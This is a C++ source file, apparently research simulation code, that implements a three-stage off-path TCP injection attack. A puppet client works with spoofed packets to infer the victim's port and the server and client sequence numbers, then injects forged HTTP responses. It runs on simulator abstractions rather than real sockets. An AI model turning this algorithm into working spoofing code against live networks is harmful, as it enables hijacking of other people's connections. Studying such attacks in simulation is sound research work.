#include "offpath/injection.hpp"

#include <algorithm>
#include <cctype>
#include <cmath>
#include <memory>

#include "offpath/tcp.hpp"
#include "offpath/web.hpp"

namespace offpath {

namespace {

Message msg(std::string kind, std::vector<int64_t> values = {}, std::string text = {}) {
  Message m;
  m.kind = std::move(kind);
  m.values = std::move(values);
  m.text = std::move(text);
  return m;
}

int64_t val(const Message& m, size_t i) { return i < m.values.size() ? m.values[i] : -1; }

}  // namespace

// --- Puppet script -----------------------------------------------------------

PuppetScript::PuppetScript(PuppetApi& api, PuppetScriptConfig cfg) : api_(api), cfg_(std::move(cfg)) {
  api_.on_message([this](const Message& m) { on_message(m); });
}

std::string PuppetScript::next_missing() { return cfg_.missing_prefix + std::to_string(missing_counter_++); }

void PuppetScript::on_message(const Message& m) {
  if (m.kind == "PING") {
    api_.report(msg("PONG"));
  } else if (m.kind == "ROUND") {
    round(val(m, 0), val(m, 1) != 0, val(m, 2));
  } else if (m.kind == "VICTIM") {
    int64_t idx = val(m, 0);
    if (idx >= 0 && static_cast<size_t>(idx) < names_.size()) victim_ = names_[static_cast<size_t>(idx)];
  } else if (m.kind == "OBSERVE") {
    mode_ = Mode::observe;
    paused_ = false;
    observe_fill();
  } else if (m.kind == "CONTINUE") {
    paused_ = false;
    observe_fill();
  } else if (m.kind == "STOP") {
    mode_ = Mode::idle;
  } else if (m.kind == "CSEQ") {
    mode_ = Mode::cseq;
    cseq_request(val(m, 0));
  } else if (m.kind == "FETCH") {
    mode_ = Mode::idle;
    api_.request(victim_, m.text, nullptr);
  }
}

void PuppetScript::round(int64_t i, bool fetch, SimTime fetch_delay) {
  uint64_t ep = ++epoch_;
  names_ = api_.open_connections(cfg_.n, [this, i, fetch, fetch_delay, ep](int) {
    if (ep != epoch_) return;
    api_.report(msg("READY", {i}));
    if (!fetch) return;
    api_.after(fetch_delay, [this, i, ep]() {
      if (ep != epoch_) return;
      auto times = std::make_shared<std::vector<SimTime>>(names_.size(), -1);
      auto left = std::make_shared<size_t>(names_.size());
      for (size_t k = 0; k < names_.size(); ++k) {
        api_.request(names_[k], cfg_.big_path, [this, i, ep, k, times, left](const PuppetResponse& r) {
          (*times)[k] = r.ok ? r.elapsed : 3600 * kSec;
          if (--*left > 0 || ep != epoch_) return;
          size_t idx = 0;
          for (size_t j = 1; j < times->size(); ++j)
            if ((*times)[j] > (*times)[idx]) idx = j;
          double sum = 0;
          for (size_t j = 0; j < times->size(); ++j)
            if (j != idx) sum += static_cast<double>((*times)[j]);
          double mean = times->size() > 1 ? sum / static_cast<double>(times->size() - 1) : 0;
          bool slow = static_cast<double>((*times)[idx]) > cfg_.slow_ratio * mean;
          api_.report(msg("RESULT", {i, slow ? 0 : 1, static_cast<int64_t>(idx)}));
        });
      }
    });
  });
}

void PuppetScript::observe_fill() {
  while (mode_ == Mode::observe && !paused_ && outstanding_ < 2) {
    outstanding_++;
    api_.request(victim_, next_missing(), [this](const PuppetResponse& r) { on_any_response(r); });
  }
}

void PuppetScript::cseq_request(int64_t iteration) {
  cseq_iter_ = iteration;
  std::string path = next_missing();
  uint64_t q = PuppetApi::request_size(victim_, path);
  outstanding_++;
  api_.request(victim_, path, [this](const PuppetResponse& r) { on_any_response(r); });
  api_.report(msg("REQ", {iteration, static_cast<int64_t>(q)}));
}

void PuppetScript::on_any_response(const PuppetResponse& r) {
  outstanding_--;
  if (mode_ == Mode::observe) {
    if (!r.ok) {
      mode_ = Mode::idle;
      api_.report(msg("OBSERVE_FAIL"));
      return;
    }
    if (r.status == 404 && r.size == cfg_.not_found_size) {
      observe_fill();
      return;
    }
    paused_ = true;
    api_.report(msg("BODY", {}, r.body));
  } else if (mode_ == Mode::cseq) {
    int64_t which = 0;
    if (!r.ok)
      which = -1;
    else if (r.body.rfind("R1", 0) == 0)
      which = 1;
    else if (r.body.rfind("R2", 0) == 0)
      which = 2;
    api_.report(msg("ANSWER", {cseq_iter_, which}));
  }
}

// --- Port search -------------------------------------------------------------

PortSearch::PortSearch(AttackerNode& node, Channel& channel, Target target, PortSearchConfig cfg)
    : node_(node),
      channel_(channel),
      target_(target),
      cfg_(cfg),
      range_(static_cast<uint32_t>(cfg.hi - cfg.lo) + 1),
      units_total_((range_ + static_cast<uint32_t>(cfg.n) - 1) / static_cast<uint32_t>(cfg.n)),
      iterations_(static_cast<int>(std::ceil(std::log2(std::max(2.0, static_cast<double>(cfg.hi - cfg.lo)))))),
      rng_(node.sim().stream("attacker:ports")) {}

uint32_t PortSearch::unit_first(uint32_t k) const {
  uint32_t n = static_cast<uint32_t>(cfg_.n);
  // The short tail unit is probed through a window ending at the range end,
  // which overlaps its predecessor.
  if ((k + 1) * n > range_) return range_ >= n ? range_ - n : 0;
  return k * n;
}

uint32_t PortSearch::probe_index(uint32_t k, int iteration) const {
  uint64_t n = static_cast<uint64_t>(cfg_.n);
  uint64_t q = unit_first(k) + n - 1 + static_cast<uint64_t>(iteration - 1) * n;
  return static_cast<uint32_t>(q % range_);
}

void PortSearch::start(Done done) {
  done_ = std::move(done);
  res_ = PortSearchResult{};
  res_.trace.phase = "port";
  res_.trace.started = node_.now();
  pkt0_ = node_.packets_sent();
  bytes0_ = node_.bytes_sent();
  channel_.attacker_rx = [this](const Message& m) { on_message(m); };
  ping_at_ = node_.now();
  channel_.to_puppet(msg("PING"));
}

void PortSearch::begin_attempt() {
  res_.attempts++;
  res_.last_attempt_triplets = 0;
  units_.clear();
  for (uint32_t k = 0; k < units_total_; ++k) units_.push_back(k);
  iter_ = 1;
  verifying_ = false;
  send_round();
}

void PortSearch::arm_timeout() {
  uint64_t ep = epoch_;
  node_.sim().after(cfg_.round_timeout, [this, ep]() {
    if (ep != epoch_) return;
    epoch_++;
    if (res_.attempts <= cfg_.retries)
      begin_attempt();
    else
      finish(false);
  });
}

void PortSearch::send_round() {
  epoch_++;
  bool fetch;
  if (iter_ <= iterations_) {
    probed_count_ = units_.size() > 1 ? units_.size() / 2 : 0;
    fetch = probed_count_ > 0;
  } else {
    verifying_ = true;
    candidate_ = probe_index(units_.front(), iter_);
    fetch = true;
  }
  SimTime fetch_delay = rtt_ch_ + (cfg_.timing == ProbeTiming::early ? cfg_.early_pad : 0);
  channel_.to_puppet(msg("ROUND", {iter_, fetch ? 1 : 0, fetch_delay}));
  arm_timeout();
}

void PortSearch::launch_probes(const std::vector<uint32_t>& indices) {
  for (uint32_t q : indices) {
    uint32_t seq = static_cast<uint32_t>(rng_.next_u64());
    uint32_t ack = static_cast<uint32_t>(rng_.next_u64());
    for (int r = 0; r < 3; ++r) {
      Segment s;
      s.src_port = target_.server_port;
      s.dst_port = static_cast<uint16_t>(cfg_.lo + q);
      s.seq = seq;
      s.ack = ack;
      s.flags = kAck;
      node_.spoof_paced(target_.server, target_.client, std::move(s));
    }
    res_.probe_triplets++;
    res_.last_attempt_triplets++;
  }
}

void PortSearch::on_message(const Message& m) {
  if (m.kind == "PONG") {
    rtt_ch_ = node_.now() - ping_at_;
    begin_attempt();
    return;
  }
  if (m.kind == "READY") {
    if (val(m, 0) != iter_) return;
    std::vector<uint32_t> idx;
    if (verifying_) {
      idx.push_back(candidate_);
    } else {
      for (size_t j = 0; j < probed_count_; ++j) idx.push_back(probe_index(units_[j], iter_));
    }
    if (idx.empty()) {
      report_round();
      iter_++;
      send_round();
      return;
    }
    SimTime wait = cfg_.timing == ProbeTiming::window ? cfg_.guard : 0;
    uint64_t ep = epoch_;
    node_.sim().after(wait, [this, idx, ep]() {
      if (ep == epoch_) launch_probes(idx);
    });
    return;
  }
  if (m.kind == "RESULT") {
    if (val(m, 0) != iter_) return;
    bool hit = val(m, 1) == 0;
    if (verifying_) {
      if (hit) {
        epoch_++;
        res_.port = static_cast<uint16_t>(cfg_.lo + candidate_);
        channel_.to_puppet(msg("VICTIM", {val(m, 2)}));
        finish(true);
      } else if (res_.attempts <= cfg_.retries) {
        epoch_++;
        begin_attempt();
      } else {
        epoch_++;
        finish(false);
      }
      return;
    }
    if (hit)
      units_.resize(probed_count_);
    else
      units_.erase(units_.begin(), units_.begin() + static_cast<long>(probed_count_));
    report_round();
    iter_++;
    send_round();
  }
}

void PortSearch::report_round() {
  if (!on_round) return;
  std::vector<std::pair<uint32_t, uint32_t>> alive;
  for (uint32_t k : units_) alive.emplace_back(unit_first(k), unit_first(k) + static_cast<uint32_t>(cfg_.n) - 1);
  on_round(iter_, alive);
}

void PortSearch::finish(bool ok) {
  res_.success = ok;
  res_.iterations = std::min(iter_, iterations_);
  res_.trace.success = ok;
  res_.trace.finished = node_.now();
  res_.trace.packets = node_.packets_sent() - pkt0_;
  res_.trace.bytes = node_.bytes_sent() - bytes0_;
  res_.trace.attempts = res_.attempts;
  channel_.attacker_rx = nullptr;
  if (done_) {
    auto d = done_;
    auto r = res_;
    node_.sim().after(0, [d, r]() { d(r); });
  }
}

// --- Server sequence search --------------------------------------------------

ServerSeqSearch::ServerSeqSearch(AttackerNode& node, Channel& channel, Target target, uint16_t client_port,
                                 ServerSeqConfig cfg)
    : node_(node),
      channel_(channel),
      target_(target),
      cport_(client_port),
      cfg_(cfg),
      rng_(node.sim().stream("attacker:sseq")) {}

std::string ServerSeqSearch::probe_payload(uint32_t seq, uint32_t padding) {
  std::string s(padding, 'P');
  s += std::to_string(seq);
  return s;
}

std::optional<uint64_t> ServerSeqSearch::trailing_number(const std::string& body, size_t* ndigits) {
  size_t end = body.size();
  size_t start = end;
  while (start > 0 && std::isdigit(static_cast<unsigned char>(body[start - 1]))) --start;
  size_t nd = end - start;
  if (nd == 0 || nd > 10) return std::nullopt;
  if (ndigits) *ndigits = nd;
  return std::stoull(body.substr(start));
}

void ServerSeqSearch::start(Done done) {
  done_ = std::move(done);
  res_ = ServerSeqResult{};
  res_.trace.phase = "server_seq";
  res_.trace.started = node_.now();
  pkt0_ = node_.packets_sent();
  bytes0_ = node_.bytes_sent();
  channel_.attacker_rx = [this](const Message& m) { on_message(m); };
  attempt();
}

void ServerSeqSearch::attempt() {
  res_.attempts++;
  uint64_t ep = ++epoch_;
  observing_ = false;
  uint32_t wnd = cfg_.wnd;
  uint64_t guesses = (1ull << 32) / wnd;
  phi_ = static_cast<uint32_t>(rng_.uniform_int(0, wnd - 1));
  uint32_t alpha = static_cast<uint32_t>(rng_.next_u64());
  inject0_ = node_.packets_sent();
  Target t = target_;
  uint16_t cport = cport_;
  uint32_t phi = phi_;
  uint32_t padding = cfg_.padding;
  auto gen = [t, cport, phi, alpha, wnd, padding](uint64_t i) {
    uint32_t seq = phi + static_cast<uint32_t>(i / 2) * wnd;
    Packet p;
    p.src = t.server;
    p.dst = t.client;
    p.seg.src_port = t.server_port;
    p.seg.dst_port = cport;
    p.seg.seq = seq;
    p.seg.ack = (i % 2 == 0) ? alpha : alpha + 0x80000000u;
    p.seg.flags = kAck;
    p.seg.payload = Payload::from(probe_payload(seq, padding));
    return p;
  };
  node_.spoof_stream(guesses * 2, gen, [this, ep]() {
    if (ep != epoch_) return;
    res_.inject_packets = node_.packets_sent() - inject0_;
    if (on_injected) on_injected();
    node_.sim().after(cfg_.settle, [this, ep]() {
      if (ep != epoch_) return;
      observing_ = true;
      channel_.to_puppet(msg("OBSERVE"));
      node_.sim().after(cfg_.observe_timeout, [this, ep]() {
        if (ep == epoch_) fail_attempt();
      });
    });
  });
}

void ServerSeqSearch::fail_attempt() {
  epoch_++;
  observing_ = false;
  channel_.to_puppet(msg("STOP"));
  if (res_.attempts == 1) res_.first_attempt_failed = true;
  if (res_.attempts <= cfg_.retries) {
    attempt();
    return;
  }
  res_.success = false;
  res_.trace.success = false;
  res_.trace.finished = node_.now();
  res_.trace.packets = node_.packets_sent() - pkt0_;
  res_.trace.bytes = node_.bytes_sent() - bytes0_;
  res_.trace.attempts = res_.attempts;
  channel_.attacker_rx = nullptr;
  if (done_) {
    auto d = done_;
    auto r = res_;
    node_.sim().after(0, [d, r]() { d(r); });
  }
}

void ServerSeqSearch::on_message(const Message& m) {
  if (!observing_) return;
  if (m.kind == "OBSERVE_FAIL") {
    fail_attempt();
    return;
  }
  if (m.kind != "BODY") return;
  size_t nd = 0;
  auto g = trailing_number(m.text, &nd);
  if (!g || *g > 0xFFFFFFFFull || static_cast<uint32_t>(*g - phi_) % cfg_.wnd != 0) {
    channel_.to_puppet(msg("CONTINUE"));
    return;
  }
  epoch_++;
  observing_ = false;
  channel_.to_puppet(msg("STOP"));
  res_.success = true;
  res_.next_seq = static_cast<uint32_t>(*g) + cfg_.padding + static_cast<uint32_t>(nd);
  res_.trace.success = true;
  res_.trace.finished = node_.now();
  res_.trace.packets = node_.packets_sent() - pkt0_;
  res_.trace.bytes = node_.bytes_sent() - bytes0_;
  res_.trace.attempts = res_.attempts;
  channel_.attacker_rx = nullptr;
  if (done_) {
    auto d = done_;
    auto r = res_;
    node_.sim().after(0, [d, r]() { d(r); });
  }
}

// --- Client sequence search --------------------------------------------------

ClientSeqSearch::ClientSeqSearch(AttackerNode& node, Channel& channel, Target target, uint16_t client_port,
                                 uint32_t server_seq, ClientSeqConfig cfg)
    : node_(node), channel_(channel), target_(target), cport_(client_port), cfg_(cfg), sigma_(server_seq) {}

std::string ClientSeqSearch::response_bytes(const char* tag, uint32_t size) {
  uint32_t body = size > kHttpHeaderSize ? size - static_cast<uint32_t>(kHttpHeaderSize) : 0;
  std::string b = tag;
  b.resize(body, '.');
  return http_header(200, body) + b;
}

void ClientSeqSearch::start(Done done) {
  done_ = std::move(done);
  res_ = ClientSeqResult{};
  res_.trace.phase = "client_seq";
  res_.trace.started = node_.now();
  pkt0_ = node_.packets_sent();
  bytes0_ = node_.bytes_sent();
  channel_.attacker_rx = [this](const Message& m) { on_message(m); };
  res_.attempts = 1;
  restart();
}

void ClientSeqSearch::restart() {
  ack_low_ = 0;
  l_ = 1ull << 32;
  iter_ = 0;
  next_iteration();
}

void ClientSeqSearch::next_iteration() {
  if (iter_ == 32) {
    epoch_++;
    res_.success = true;
    res_.client_nxt = ack_low_;
    res_.next_server_seq = sigma_;
    res_.iterations = iter_;
    res_.trace.success = true;
    res_.trace.finished = node_.now();
    res_.trace.packets = node_.packets_sent() - pkt0_;
    res_.trace.bytes = node_.bytes_sent() - bytes0_;
    res_.trace.attempts = res_.attempts;
    channel_.attacker_rx = nullptr;
    if (done_) {
      auto d = done_;
      auto r = res_;
      node_.sim().after(0, [d, r]() { d(r); });
    }
    return;
  }
  iter_++;
  uint64_t ep = ++epoch_;
  awaiting_ = false;
  channel_.to_puppet(msg("CSEQ", {iter_}));
  node_.sim().after(cfg_.answer_timeout, [this, ep]() {
    if (ep != epoch_) return;
    epoch_++;
    if (res_.attempts <= cfg_.retries) {
      res_.attempts++;
      restart();
      return;
    }
    res_.success = false;
    res_.iterations = iter_;
    res_.trace.finished = node_.now();
    res_.trace.attempts = res_.attempts;
    res_.trace.packets = node_.packets_sent() - pkt0_;
    res_.trace.bytes = node_.bytes_sent() - bytes0_;
    channel_.attacker_rx = nullptr;
    if (done_) {
      auto d = done_;
      auto r = res_;
      node_.sim().after(0, [d, r]() { d(r); });
    }
  });
}

void ClientSeqSearch::inject(uint64_t request_bytes) {
  // The request the puppet just sent moved the client's NXT forward.
  ack_low_ += static_cast<uint32_t>(request_bytes);
  uint32_t mid = ack_low_ + static_cast<uint32_t>(l_ / 2);
  auto make = [this](uint32_t ack, const char* tag) {
    Segment s;
    s.src_port = target_.server_port;
    s.dst_port = cport_;
    s.seq = sigma_;
    s.ack = ack;
    s.flags = kAck;
    s.payload = Payload::from(response_bytes(tag, cfg_.response_size));
    return s;
  };
  // r2 first: if it lands, r1 arrives behind the window and is discarded.
  node_.spoof(target_.server, target_.client, make(mid, "R2"));
  node_.spoof(target_.server, target_.client, make(ack_low_, "R1"));
  res_.injected_responses += 2;
  awaiting_ = true;
  if (on_injected) on_injected(ack_low_, l_);
}

void ClientSeqSearch::on_message(const Message& m) {
  if (m.kind == "REQ") {
    if (val(m, 0) != iter_ || awaiting_) return;
    inject(static_cast<uint64_t>(val(m, 1)));
    return;
  }
  if (m.kind != "ANSWER") return;
  int64_t which = val(m, 1);
  if (val(m, 0) != iter_ || !awaiting_ || (which != 1 && which != 2)) {
    // A second answer, a stray response, or a broken connection.
    epoch_++;
    if (res_.attempts <= cfg_.retries) {
      res_.attempts++;
      restart();
    } else {
      res_.success = false;
      res_.iterations = iter_;
      res_.trace.finished = node_.now();
      res_.trace.attempts = res_.attempts;
      channel_.attacker_rx = nullptr;
      if (done_) {
        auto d = done_;
        auto r = res_;
        node_.sim().after(0, [d, r]() { d(r); });
      }
    }
    return;
  }
  awaiting_ = false;
  ClientSeqStep step;
  step.iteration = iter_;
  step.span = l_;
  step.r2 = which == 2;
  if (which == 2) ack_low_ += static_cast<uint32_t>(l_ / 2);
  step.ack_low = ack_low_;
  l_ /= 2;
  sigma_ += cfg_.response_size;
  if (on_step) on_step(step);
  next_iteration();
}

// --- Pipeline ----------------------------------------------------------------

InjectionPipeline::InjectionPipeline(AttackerNode& node, Channel& channel, Target target, PortSearchConfig pc,
                                     ServerSeqConfig sc, ClientSeqConfig cc)
    : node_(node), channel_(channel), target_(target), pc_(pc), sc_(sc), cc_(cc) {}

void InjectionPipeline::start(Done done) {
  port_ = std::make_unique<PortSearch>(node_, channel_, target_, pc_);
  port_->start([this, done](const PortSearchResult& pr) {
    res_.port = pr;
    if (!pr.success) {
      done(res_);
      return;
    }
    server_ = std::make_unique<ServerSeqSearch>(node_, channel_, target_, pr.port, sc_);
    server_->start([this, done, pr](const ServerSeqResult& sr) {
      res_.server = sr;
      if (!sr.success) {
        done(res_);
        return;
      }
      client_ = std::make_unique<ClientSeqSearch>(node_, channel_, target_, pr.port, sr.next_seq, cc_);
      client_->start([this, done](const ClientSeqResult& cr) {
        res_.client = cr;
        res_.success = cr.success;
        done(res_);
      });
    });
  });
}

}  // namespace offpath
